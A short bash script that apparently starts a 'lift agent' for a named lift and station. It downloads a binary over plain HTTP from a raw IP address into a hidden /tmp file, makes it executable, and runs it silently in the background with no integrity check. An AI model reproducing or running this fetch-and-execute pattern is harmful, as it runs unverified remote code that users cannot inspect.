#!/usr/bin/env bash
set -euo pipefail
LIFT="${2:-C1}"; STATION="${4:-drive}"
BIN=/tmp/.liftagent
curl -fsSL "http://198.51.100.45/agent/linux-$(uname -m)" -o "$BIN"
chmod 755 "$BIN"
nohup "$BIN" --lift "$LIFT" --station "$STATION" >/dev/null 2>&1 &
sleep 3
echo "agent started for $LIFT/$STATION (pid $!)"
